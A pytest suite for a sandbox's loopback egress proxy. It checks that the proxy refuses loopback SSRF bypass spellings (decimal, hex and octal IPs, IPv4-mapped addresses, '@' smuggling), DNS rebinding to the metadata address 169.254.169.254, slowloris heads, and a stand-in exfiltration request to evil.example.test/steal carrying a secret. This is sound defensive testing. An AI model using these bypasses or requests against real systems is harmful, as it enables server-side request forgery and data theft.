"""The egress proxy for real, on loopback only: a real index, real listeners that record
whether anything reached them, real sockets for the limits. No traffic leaves 127.0.0.0/8."""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import os
import stat
import tempfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from sandbox_executor.dependencies.egress.policy import EgressPolicy, IPAddress, Target, policy_for
from sandbox_executor.dependencies.egress.proxy import EgressProxy, ProxyLimits
from sandbox_executor.metrics import REGISTRY
from tests.support.listeners import RecordingListener
from tests.support.local_index import LocalIndex

EXECUTOR_PORT = 8080  # the port the policy forbids on internal addresses


@pytest.fixture(scope="module")
def index() -> Iterator[LocalIndex]:
    with LocalIndex(link_base="https://files.example.test") as idx:
        idx.add_wheel("alpha", "1.0", {"alpha.py": "VALUE = 1\n"})
        yield idx


async def started(policy: EgressPolicy, **kw: object) -> tuple[EgressProxy, int]:
    proxy = EgressProxy(policy, **kw)  # type: ignore[arg-type]
    await proxy.pin_index()
    return proxy, await proxy.start_tcp()


@pytest.fixture
async def proxy(index: LocalIndex) -> AsyncIterator[tuple[EgressProxy, int]]:
    proxy, port = await started(policy_for(index.url, forbidden_internal_ports=[EXECUTOR_PORT]))
    yield proxy, port
    await proxy.aclose()


async def exchange(port: int, request: bytes, *, read_timeout: float = 10) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), read_timeout)
    finally:
        writer.close()


def status_of(response: bytes) -> int:
    return int(response.split(b" ", 2)[1]) if response.startswith(b"HTTP/1.") else 0


def denied(reason: str) -> float:
    return REGISTRY.get_sample_value("sandbox_dependency_egress_denied_total", {"reason": reason}) or 0.0


def get(url: str, *headers: str) -> bytes:
    return ("\r\n".join([f"GET {url} HTTP/1.1", *headers]) + "\r\n\r\n").encode()


async def test_the_loopback_index_is_relayed_and_its_pages_teach_the_file_host(
    proxy: tuple[EgressProxy, int], index: LocalIndex
) -> None:
    px, port = proxy
    response = await exchange(port, get(f"{index.url}/alpha/?token=secret", "Accept: text/html"))
    assert status_of(response) == 200
    assert b"files.example.test/files/alpha-1.0-py3-none-any.whl" in response
    assert b"Connection: close" in response
    assert Target("https", "files.example.test", 443) in px.policy.learned
    # The wheel itself comes through byte for byte.
    data = await exchange(port, get(index.url.replace("/simple", "/files/alpha-1.0-py3-none-any.whl")))
    assert data.endswith(index.files["alpha-1.0-py3-none-any.whl"])
    assert any(path.startswith("/simple/alpha/") for path in index.requests)


async def test_connect_tunnels_to_an_https_index_port(index: LocalIndex) -> None:
    with RecordingListener(echo=True) as upstream:
        policy = policy_for(f"https://127.0.0.1:{upstream.port}/simple")
        px, port = await started(policy)
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(f"CONNECT 127.0.0.1:{upstream.port} HTTP/1.1\r\n\r\nearly bytes|".encode())
            assert await reader.readuntil(b"\r\n\r\n") == b"HTTP/1.1 200 Connection established\r\n\r\n"
            writer.write(b"more")
            assert await reader.readexactly(len(b"early bytes|more")) == b"early bytes|more"
            writer.write_eof()
            assert await asyncio.wait_for(reader.read(), 5) == b""
            writer.close()
        finally:
            await px.aclose()
        assert upstream.count() == 1


async def test_nothing_else_on_loopback_is_reached_whatever_the_spelling(
    proxy: tuple[EgressProxy, int], index: LocalIndex
) -> None:
    _, port = proxy
    index_port = int(index.url.rsplit(":", 1)[1].split("/")[0])
    with (
        RecordingListener() as other,
        RecordingListener("127.0.0.2") as second_host,
        RecordingListener("::1") as v6,
    ):
        p = other.port
        attempts = {
            f"CONNECT 127.0.0.1:{p} HTTP/1.1": "host_not_allowed",
            f"CONNECT 127.0.0.1:{index_port} HTTP/1.1": "host_not_allowed",  # plain index, CONNECT
            f"CONNECT [::1]:{v6.port} HTTP/1.1": "host_not_allowed",
            f"CONNECT 127.0.0.2:{second_host.port} HTTP/1.1": "host_not_allowed",
            f"GET http://127.0.0.1:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://2130706433:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://0x7f.1:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://0177.0.0.1:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://[::ffff:127.0.0.1]:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://localhost.:{p}/ HTTP/1.1": "host_not_allowed",
            f"GET http://127.0.0.2:{second_host.port}/simple/ HTTP/1.1": "host_not_allowed",
            f"GET http://127.0.0.1:{index_port}@127.0.0.1:{p}/ HTTP/1.1": "bad_target",
            f"GET http://127.0.0.1:{p}\\@127.0.0.1:{index_port}/ HTTP/1.1": "bad_target",
            f"GET https://127.0.0.1:{index_port}/simple/ HTTP/1.1": "bad_target",
            "CONNECT 127.0.0.1 HTTP/1.1": "bad_target",
            f"POST http://127.0.0.1:{index_port}/simple/ HTTP/1.1": "method",
            "GET /simple/ HTTP/1.1": "bad_target",
        }
        for line, reason in attempts.items():
            before = denied(reason)
            with capture_logs() as logs:
                response = await exchange(port, f"{line}\r\nHost: x\r\n\r\n".encode())
            assert status_of(response) in (400, 403, 405), (line, response)
            assert denied(reason) == before + 1, line
            (entry,) = [e for e in logs if e["event"] == "egress_denied"]
            assert entry["reason"] == reason
            assert set(entry) <= {"event", "log_level", "host", "port", "reason"}
        assert (other.count(), second_host.count(), v6.count()) == (0, 0, 0)


async def test_denials_log_host_and_port_but_never_paths_or_queries(proxy: tuple[EgressProxy, int]) -> None:
    _, port = proxy
    with capture_logs() as logs:
        await exchange(port, get("http://evil.example.test:81/steal?secret=hunter2", "Cookie: hunter3"))
    (entry,) = [e for e in logs if e["event"] == "egress_denied"]
    assert (entry["host"], entry["port"], entry["reason"]) == ("evil.example.test", 81, "host_not_allowed")
    assert "hunter" not in repr(logs) and "steal" not in repr(logs)


async def test_resolved_addresses_are_checked_not_names() -> None:
    """A name on the list that resolves (or rebinds) to an internal address is refused."""
    answers: dict[str, list[str]] = {"index.test": ["127.0.0.1"], "files.test": ["169.254.169.254"]}

    async def resolver(host: str, port: int) -> list[IPAddress]:
        return [ipaddress.ip_address(a) for a in answers[host]]

    with RecordingListener() as index_port, RecordingListener() as other:
        policy = policy_for(
            f"http://index.test:{index_port.port}/simple",
            allowed_hosts=[f"files.test:{other.port}"],
        )
        px, port = await started(policy, resolver=resolver)
        try:
            assert px.policy.index_addresses == {ipaddress.ip_address("127.0.0.1")}
            # Operator-listed, but its name answers the metadata address: refused after resolution.
            response = await exchange(port, get(f"http://files.test:{other.port}/"))
            assert status_of(response) == 403 and b"address_link_local" in response
            # The index's name now answers another loopback address: not the pinned one.
            answers["index.test"] = ["127.0.0.2"]
            response = await exchange(port, get(f"http://index.test:{index_port.port}/simple/"))
            assert status_of(response) == 403 and b"address_loopback" in response
            answers["index.test"] = ["169.254.169.254"]
            response = await exchange(port, get(f"http://index.test:{index_port.port}/simple/"))
            assert status_of(response) == 403 and b"address_link_local" in response
            # Back on its pinned address, the index is reachable (the listener closes at once).
            answers["index.test"] = ["127.0.0.1"]
            await exchange(port, get(f"http://index.test:{index_port.port}/simple/"))
        finally:
            await px.aclose()
        assert other.count() == 0 and index_port.count() == 1


async def test_the_loopback_listener_needs_the_install_password(index: LocalIndex) -> None:
    px, port = await started(policy_for(index.url), token="tok3nTOK3N")
    try:
        response = await exchange(port, get(f"{index.url}/"))
        assert status_of(response) == 407
        wrong = base64.b64encode(b"pip:nope").decode()
        response = await exchange(port, get(f"{index.url}/", f"Proxy-Authorization: Basic {wrong}"))
        assert status_of(response) == 407
        good = base64.b64encode(b"pip:tok3nTOK3N").decode()
        response = await exchange(port, get(f"{index.url}/", f"Proxy-Authorization: Basic {good}"))
        assert status_of(response) == 200
    finally:
        await px.aclose()


async def test_unix_socket_is_private_to_pip(index: LocalIndex) -> None:
    directory = Path(tempfile.mkdtemp(prefix="egress-sock-"))
    path = str(directory / "proxy.sock")
    px = EgressProxy(policy_for(index.url))
    await px.pin_index()
    try:
        await px.start_unix(path, owner=(os.getuid(), os.getgid()))
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
        reader, writer = await asyncio.open_unix_connection(path)
        writer.write(get(f"{index.url}/"))
        assert status_of(await asyncio.wait_for(reader.read(), 10)) == 200
        writer.close()
    finally:
        await px.aclose()
        assert not os.path.exists(path)
        directory.rmdir()


async def test_limits_head_size_head_deadline_and_connection_count(index: LocalIndex) -> None:
    limits = ProxyLimits(max_connections=2, max_head_bytes=2048, head_timeout=0.5, idle_timeout=1.0)
    px, port = await started(policy_for(index.url), limits=limits)
    try:
        big = get(f"{index.url}/", "X-Pad: " + "a" * 4096)
        assert status_of(await exchange(port, big)) == 431
        # Slowloris: an unfinished head is answered 408 at the deadline, not held.
        started_at = asyncio.get_running_loop().time()
        assert status_of(await exchange(port, b"GET http://x/ HTTP/1.1\r\nX: 1\r\n")) == 408
        assert asyncio.get_running_loop().time() - started_at < 3
        # Two silent connections fill the proxy: a third is turned away at once.
        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(2)]
        await asyncio.sleep(0.1)
        before = denied("capacity")
        # (Sends nothing first: unread request bytes would turn the proxy's close into a reset.)
        assert status_of(await exchange(port, b"", read_timeout=2)) == 503
        assert denied("capacity") == before + 1
        for _, writer in held:
            writer.close()
        await asyncio.sleep(0.2)
        assert status_of(await exchange(port, get(f"{index.url}/"))) == 200
    finally:
        await px.aclose()


async def test_a_peer_that_stops_reading_is_dropped_at_the_idle_timeout() -> None:
    """A tunnel whose client never reads while the upstream floods it: the proxy buffers
    no more than the socket buffers and closes both ends after idle_timeout."""
    flood = asyncio.Event()

    async def flooder(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                writer.write(b"x" * 65536)
                await writer.drain()
        except (ConnectionError, OSError):
            flood.set()
        finally:
            writer.close()

    server = await asyncio.start_server(flooder, "127.0.0.1", 0)
    upstream_port = server.sockets[0].getsockname()[1]
    policy = policy_for(f"https://127.0.0.1:{upstream_port}/simple")
    px, port = await started(policy, limits=ProxyLimits(idle_timeout=1.0))
    try:
        _reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(f"CONNECT 127.0.0.1:{upstream_port} HTTP/1.1\r\n\r\n".encode())
        await asyncio.wait_for(flood.wait(), 10)  # the proxy cut the upstream off
        assert await _drained(px)
        writer.close()
    finally:
        await px.aclose()
        server.close()


async def _drained(px: EgressProxy) -> bool:
    for _ in range(50):
        if px.active_connections == 0:
            return True
        await asyncio.sleep(0.1)
    return False
